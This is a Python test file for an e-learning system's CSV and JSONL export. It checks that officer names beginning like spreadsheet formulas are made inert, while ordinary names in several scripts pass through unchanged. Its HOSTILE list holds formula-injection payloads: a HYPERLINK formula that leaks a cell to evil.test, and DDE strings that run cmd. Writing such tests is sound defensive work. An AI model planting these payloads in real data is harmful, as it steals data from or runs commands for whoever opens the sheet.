"""A list that is opened in a spreadsheet shows what was kept, and runs nothing."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from datetime import UTC, date, datetime
from hashlib import sha256
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given
from hypothesis import strategies as st

from elearn.exports.spreadsheet import ROWS_AT_ONCE, Cell, Written, neutral, write_csv, write_jsonl

KOLKATA = ZoneInfo("Asia/Kolkata")
NOON_UTC = datetime(2026, 11, 23, 12, 0, 5, 999, tzinfo=UTC)

# Names that somebody might give to an officer so that a supervisor's spreadsheet does something.
HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://evil.test/?"&A1;"Meera")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    " =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    '"=1+1"',
    "'=1+1",
    "“=1+1”",
    " ' \" =1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\x00=1+1",
    "\tMeera",
    "\rMeera",
]
HARMLESS = [
    "",
    "Meera Devi",
    "थोइबी लैमा",
    "ꯊꯣꯏꯕꯤ ꯂꯩꯃꯥ",
    "क्‍ष",  # ZWJ inside an Indic word
    "A = B",
    "Nga-ri",
    "d'Souza",
    "'Awl",
    "(Dr.) Meera",
    "Devi, Meera",
    'Meera "Mimi" Devi',
    "Section Officer\nGrade II",
    "…",
]


def written(rows: list[list[Cell]], header: tuple[str, ...] = ("a", "b")) -> tuple[bytes, Written]:
    file = io.BytesIO()
    result = write_csv(header, rows, file, KOLKATA)
    return file.getvalue(), result


def read_back(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), strict=True))


def test_the_header_is_always_there() -> None:
    data, result = written([])
    assert data == b"\xef\xbb\xbfa,b\r\n"
    assert result == Written(0, len(data), sha256(data).hexdigest())


def test_lines_end_as_spreadsheets_expect() -> None:
    data, _ = written([["Meera", 1], ["Thoibi", 2]])
    assert data == b"\xef\xbb\xbfa,b\r\nMeera,1\r\nThoibi,2\r\n"


def test_count_size_and_hash_are_those_of_the_bytes_over_many_blocks() -> None:
    rows: list[list[Cell]] = [[f"Officer {n}, Grade {n % 3}", n] for n in range(2 * ROWS_AT_ONCE + 7)]
    data, result = written(rows)
    assert result == Written(len(rows), len(data), sha256(data).hexdigest())
    assert read_back(data)[1:] == [[str(cell) for cell in row] for row in rows]


def test_numbers_days_and_moments_stay_what_they_are() -> None:
    data, _ = written([[-5, date(2026, 11, 23)], [None, NOON_UTC], [0, None]])
    assert read_back(data)[1:] == [["-5", "2026-11-23"], ["", "2026-11-23T17:30:05+05:30"], ["0", ""]]


def test_a_number_beside_a_hostile_name_in_the_same_column_stays_a_number() -> None:
    data, _ = written([["=1+1", 1], [-5, 2]])
    assert read_back(data)[1:] == [["'=1+1", "1"], ["-5", "2"]]


@pytest.mark.parametrize("name", HOSTILE, ids=ascii)
def test_a_formula_becomes_text(name: str) -> None:
    data, _ = written([["Meera", name], [name, "Meera"]])
    assert read_back(data)[1:] == [["Meera", f"'{name}"], [f"'{name}", "Meera"]]


@pytest.mark.parametrize("name", HARMLESS, ids=ascii)
def test_a_name_stays_as_it_is_spelt(name: str) -> None:
    data, _ = written([["1", name]])
    assert read_back(data)[1:] == [["1", name]]


@given(st.lists(st.lists(st.text(st.characters(codec="utf-8"), max_size=12), min_size=2, max_size=2), max_size=20))
def test_any_text_is_read_back_and_never_begins_a_formula(rows: list[list[str]]) -> None:
    data, result = written([list(row) for row in rows])
    found = read_back(data)[1:]
    assert found == [[neutral(cell) for cell in row] for row in rows]
    assert result.rows == len(rows)
    begins = {cell.lstrip(' \t\r\n"')[:1] for row in found for cell in row}
    assert begins.isdisjoint({"=", "+", "-", "@", "＝", "＋", "－", "＠"})


def test_rows_are_taken_as_they_come() -> None:
    file = io.BytesIO()
    sizes: list[int] = []

    def rows() -> Iterator[list[Cell]]:
        for n in range(3 * ROWS_AT_ONCE):
            if n % ROWS_AT_ONCE == 0:
                sizes.append(file.tell())
            yield ["Meera", n]

    write_csv(("a", "b"), rows(), file, KOLKATA)
    assert sizes == sorted(set(sizes)), "each block was written before the next was asked for"


def test_a_row_of_another_width_is_refused() -> None:
    with pytest.raises(ValueError, match="zip"):
        written([["Meera", 1], ["Thoibi"]])


def test_json_lines_hold_the_same_under_the_same_names() -> None:
    file = io.BytesIO()
    rows: list[list[Cell]] = [["=1+1", NOON_UTC], ["थोइबी", date(2026, 11, 23)], [None, -5]]
    result = write_jsonl(("name", "value"), rows, file, KOLKATA)
    assert [json.loads(line) for line in file.getvalue().decode().splitlines()] == [
        {"name": "=1+1", "value": "2026-11-23T17:30:05+05:30"},
        {"name": "थोइबी", "value": "2026-11-23"},
        {"name": None, "value": -5},
    ]
    assert result == Written(3, len(file.getvalue()), sha256(file.getvalue()).hexdigest())
